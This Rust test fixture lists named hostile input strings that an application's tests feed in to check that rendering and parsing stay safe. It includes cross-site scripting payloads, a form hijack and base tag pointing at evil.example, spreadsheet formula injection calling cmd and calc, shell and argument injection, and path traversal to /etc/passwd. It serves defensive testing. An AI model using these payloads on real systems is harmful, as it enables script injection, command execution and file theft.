//! Texts that somebody may put into a task to harm whoever looks at it, or by
//! accident. The native, the headless and the end-to-end tests all read them.

/// So long is the longest, in characters.
pub const LONG: usize = 100_000;

/// What a script would set, had one run.
pub const MARK: &str = "__hostileTextRan";

/// Each text with a name for it.
pub fn texts() -> Vec<(&'static str, String)> {
    let script = format!("window.{MARK}=1");
    let made = [
        ("script", format!("<script>{script}</script>")),
        ("image", format!("<img src=x onerror=\"{script}\">")),
        ("drawing", format!("<svg/onload={script}>")),
        (
            "frame",
            format!("<iframe srcdoc=\"<script>parent.{MARK}=1</script>\">"),
        ),
        ("style", "<style>*{display:none}</style>".to_owned()),
        ("base", "<base href=//evil.example/>".to_owned()),
        (
            "form",
            "</form><form action=//evil.example/><input name=p>".to_owned(),
        ),
        (
            "end of an attribute",
            format!("\" onmouseover=\"{script}\" x=\"' autofocus onfocus='{script}"),
        ),
        (
            "end of an element",
            "</td></tr></table></title></textarea></script><h1>evil</h1>".to_owned(),
        ),
        ("comment", "<!-- -->--!><![CDATA[ ]]>".to_owned()),
        (
            "entities",
            "&lt;b&gt; &amp;amp; &#x3c;script&#x3e; &quot;".to_owned(),
        ),
        (
            "template",
            "{{constructor.constructor('alert(1)')()}} ${7*7} {name} {n} %s %d".to_owned(),
        ),
        ("script address", format!("javascript:{script}//")),
        (
            "spelled script address",
            format!("\u{1}JaVa\tScRiPt\n:{script}"),
        ),
        (
            "data address",
            format!("data:text/html,<script>opener.{MARK}=1</script>"),
        ),
        ("foreign address", "//evil.example/x".to_owned()),
        ("backslash address", "\\\\evil.example\\x".to_owned()),
        (
            "address with a password",
            "mysql://root:hunter2@db.example:3306/x?y=1#z".to_owned(),
        ),
        (
            "right to left",
            "\u{202e}gnp.exe \u{2066}\u{202b}abc\u{202c}".to_owned(),
        ),
        ("Arabic and Hebrew", "مهمة שלום 123 (abc)".to_owned()),
        (
            "combining",
            format!("o{}rders", "\u{301}\u{30a}\u{489}\u{20dd}".repeat(40)),
        ),
        (
            "joined",
            "👩\u{200d}👩\u{200d}👧\u{200d}👦 🏳\u{fe0f}\u{200d}🌈 👍🏽 é e\u{301}".to_owned(),
        ),
        (
            "unseen",
            "pay\u{200b}pal\u{feff}\u{ad}\u{2060}\u{180e}\u{3164}".to_owned(),
        ),
        ("blank", " \u{a0}\u{3000}\t ".to_owned()),
        (
            "lines",
            "one\ntwo\r\nthree\u{2028}four\u{2029}five\u{85}six\u{b}seven\u{c}eight".to_owned(),
        ),
        ("null", "a\0b\0".to_owned()),
        (
            "controls",
            (0_u8..32)
                .map(char::from)
                .chain(['\u{7f}', '\u{9b}'])
                .collect(),
        ),
        ("terminal", "\u{1b}[31mred\u{1b}]0;title\u{7}".to_owned()),
        (
            "not characters",
            "\u{fffe}\u{ffff}\u{10ffff}\u{fffd}\u{e000}".to_owned(),
        ),
        ("formula", "=HYPERLINK(\"//evil.example\",\"x\")".to_owned()),
        (
            "hidden formula",
            "\u{feff}\u{200b}\t=cmd|'/c calc'!A1".to_owned(),
        ),
        ("formula of signs", "@SUM(1+1)*cmd|' /C calc'!A0".to_owned()),
        ("full-width formula", "＝1+1".to_owned()),
        ("negative", "-2+3+cmd|' /C calc'!A0".to_owned()),
        ("dividers", "a,b;c\td|e\"f''g".to_owned()),
        (
            "shell",
            "'; touch evil; ' $(touch evil) `touch evil` $HOME ${TOKEN} && | > < & ! # ~ *"
                .to_owned(),
        ),
        ("shell lines", "'\n'\\''\ntouch evil\n".to_owned()),
        (
            "option",
            "-o/dev/null --config=evil @/etc/passwd".to_owned(),
        ),
        ("here", ".".to_owned()),
        ("up", "..".to_owned()),
        ("far up", "../../../../etc/passwd".to_owned()),
        ("path", "a/b//c/./d/../e".to_owned()),
        ("query", "?clusterId=x&page=2&pageSize=1".to_owned()),
        ("fragment", "#token=stolen".to_owned()),
        ("percent", "%2F %2e%2e %00 %25 %zz %".to_owned()),
        ("encoded slash", "a%2Fb".to_owned()),
        ("plus", "a+b c%20d".to_owned()),
        ("word of a page", "new".to_owned()),
        ("property", "__proto__".to_owned()),
        ("other property", "constructor".to_owned()),
        ("number", "1e400".to_owned()),
        ("empty", String::new()),
    ];
    let long = [
        ("long word", "x".repeat(LONG)),
        ("long words", "very long ".repeat(LONG / 10)),
        ("long Chinese", "长".repeat(LONG)),
        ("long marks", "\u{301}".repeat(LONG)),
        ("long lines", "line\n".repeat(LONG / 5)),
        ("long markup", "<b>".repeat(LONG / 3)),
        ("long addresses", "://".repeat(LONG / 3)),
        ("long hosts", "a:b@".repeat(LONG / 4)),
        ("long secrets", "password=".repeat(LONG / 9)),
    ];
    made.into_iter().chain(long).collect()
}
